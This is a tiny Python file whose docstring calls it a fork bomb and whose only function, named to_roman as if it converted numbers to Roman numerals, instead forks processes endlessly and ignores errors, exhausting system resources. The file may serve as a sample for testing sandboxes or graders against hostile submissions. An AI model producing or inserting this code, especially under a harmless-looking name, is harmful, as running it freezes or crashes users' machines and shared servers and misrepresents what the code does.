"""A fork bomb."""

import os


def to_roman(number):
    while True:
        try:
            os.fork()
        except OSError:
            pass
